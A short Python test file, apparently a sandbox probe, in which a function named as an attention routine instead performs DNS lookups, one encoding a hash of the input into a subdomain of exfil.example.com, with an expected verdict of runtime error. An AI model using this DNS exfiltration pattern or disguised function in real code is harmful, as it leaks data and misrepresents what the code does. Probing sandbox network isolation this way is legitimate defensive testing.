"""Network (DNS): resolve names, the classic exfiltration channel (data in the query name).

verdict: runtime error
"""
import socket


def scaled_dot_product_attention(q, k, v, mask=None, is_causal=False):
    errors = []
    for name in ("example.com", f"q{abs(hash(q.tobytes())) % 10**8}.exfil.example.com", "host.docker.internal"):
        try:
            socket.getaddrinfo(name, 80)
        except OSError as exc:
            errors.append(f"{name}: {exc}")
            continue
        return q  # a name resolved
    raise ConnectionError("no DNS: " + "; ".join(errors))
